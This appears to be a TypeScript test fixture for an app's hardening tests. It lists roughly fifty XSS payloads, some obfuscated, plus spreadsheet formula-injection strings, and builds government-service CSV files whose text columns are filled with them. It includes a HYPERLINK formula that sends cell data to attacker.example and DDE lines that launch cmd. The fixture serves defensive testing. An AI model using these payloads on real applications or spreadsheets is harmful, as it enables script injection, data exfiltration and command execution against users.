/**
 * Injection payloads for the hardening tests. Each tries to run `window.__pwned(n)`; none may
 * ever run, in the app (tables, tooltips, chart labels, dialogs) or in a published report.
 */
const P = (n: number) => `__pwned(${n})`

export const XSS_PAYLOADS: string[] = [
  `<script>${P(1)}</script>`,
  `<img src=x onerror="${P(2)}">`,
  `<svg onload="${P(3)}">`,
  `<svg><script>${P(4)}</script></svg>`,
  `<iframe src="javascript:${P(5)}"></iframe>`,
  `<a href="javascript:${P(6)}">点我</a>`,
  `<body onload="${P(7)}">`,
  `<input autofocus onfocus="${P(8)}">`,
  `<details open ontoggle="${P(9)}">`,
  `<video><source onerror="${P(10)}"></video>`,
  `<audio src=x onerror="${P(11)}">`,
  `"><script>${P(12)}</script>`,
  `'><img src=x onerror=${P(13)}>`,
  `</textarea><script>${P(14)}</script>`,
  `</title><script>${P(15)}</script>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${P(16)}>`,
  `<object data="javascript:${P(17)}">`,
  `<embed src="javascript:${P(18)}">`,
  `<form action="javascript:${P(19)}"><button>x</button></form>`,
  `<marquee onstart="${P(20)}">`,
  `<div style="background:url(javascript:${P(21)})">`,
  `<img src="x" onerror="&#x5f;&#x5f;pwned(22)">`,
  `<img src=x oNeRrOr=${P(23)}>`,
  `<scr<script>ipt>${P(24)}</scr</script>ipt>`,
  `javascript:${P(25)}`,
  `{{constructor.constructor('${P(26)}')()}}`,
  `\${${P(27)}}`,
  `<img src=x onerror=eval(atob('X19wd25lZCgyOCk='))>`,
  `<svg><animate onbegin="${P(29)}" attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${P(30)}"><text x=20 y=20>x</text></a></svg>`,
  `<link rel=import href="data:text/html,<script>${P(31)}</script>">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${P(32)}">`,
  `<base href="javascript:${P(33)}//">`,
  `<isindex type=image src=1 onerror=${P(34)}>`,
  `<table background="javascript:${P(35)}">`,
  `<img srcset=",,,,,x" onerror=${P(36)}>`,
  `<select autofocus onfocus=${P(37)}>`,
  `<textarea autofocus onfocus=${P(38)}>`,
  `<keygen autofocus onfocus=${P(39)}>`,
  `<img src=x onerror="window['__pw'+'ned'](40)">`,
  `<style>@import 'javascript:${P(41)}';</style>`,
  `<x onclick=${P(42)}>click</x>`,
  `"onmouseover="${P(43)}"`,
  `' onmouseover='${P(44)}'`,
  `<noscript><p title="</noscript><img src=x onerror=${P(45)}>">`,
  `<template><img src=x onerror=${P(46)}></template>`,
  `<img src=x onerror=${P(47)}//`,
  `<!--<img src="--><img src=x onerror=${P(48)}//">`,
  `<img src="\`<img src=x onerror=${P(49)}>\`">`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${P(50)}</script>"></iframe></foreignObject></svg>`,
  `=HYPERLINK("http://attacker.example/?"&A1,"${P(51)}")`,
  `+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
]

/** A data set whose every text column holds payloads, keyed by file name. */
export function hostileDataset(): Record<string, string> {
  const x = (i: number) => `"${XSS_PAYLOADS[i % XSS_PAYLOADS.length]!.replace(/"/g, '""')}"`
  const rows = (n: number, f: (i: number) => string) => Array.from({ length: n }, (_, i) => f(i)).join('\n')
  const depts = (i: number) => x(i + 7)
  return {
    '配档表.csv': `序号,板块,目标任务,具体任务,完成时限,牵头部门,责任单位,备注,年度\n${rows(XSS_PAYLOADS.length, i => `T${i},${x(i)},${x(i + 1)},${x(i + 2)},10月底前,${depts(i % 5)},${x(i + 3)},${x(i + 4)},2024`)}\n`,
    '进展报送.csv': `序号,报送日期,状态,完成日期,说明,报送单位\n${rows(XSS_PAYLOADS.length, i => `T${i},2024-10-08,推进中,,${x(i + 5)},${x(i + 6)}`)}\n`,
    '一件事清单.csv': `一件事名称,分类,牵头部门,涉及事项,联办部门,备注\n${rows(20, i => `${x(i)},个人,${depts(i % 5)},${x(i + 2)},${x(i + 3)},${x(i + 4)}`)}\n`,
    '改革前后对比.csv': `一件事名称,改革前材料数,改革后材料数,改革前时限,改革后时限,改革前环节,改革后环节\n${rows(20, i => `${x(i)},10,${i % 7},20,${i % 9},10,${i % 4}`)}\n`,
    '好差评.csv': `评价编号,被评价部门,事项名称,一件事名称,窗口,工作人员,评价渠道,评价时间,评价等级,评价内容,联系电话,评价人,联系时间,核实结果,整改时间\n${rows(XSS_PAYLOADS.length, i => `E${i},${depts(i % 5)},${x(i + 1)},${x(i)},${x(i + 2)},${x(i + 3)},${x(i + 4)},2024-10-${String(1 + (i % 15)).padStart(2, '0')} 10:00,${i % 3 === 0 ? '不满意' : '满意'},${x(i + 5)},1391234${String(5678 + i).padStart(4, '0')},${x(i + 6)},,,`)}\n`,
    '办件.csv': `办件编号,一件事名称,事项名称,承办部门,办理地点,申报渠道,申请时间,受理时间,办结时间,承诺时限,申请人,联系电话\n${rows(XSS_PAYLOADS.length, i => `A${i},${x(i)},${x(i + 1)},${depts(i % 5)},${x(i + 2)},窗口,2024-10-08 10:00,2024-10-08 11:00,,3,${x(i + 3)},13800138000`)}\n`,
  }
}
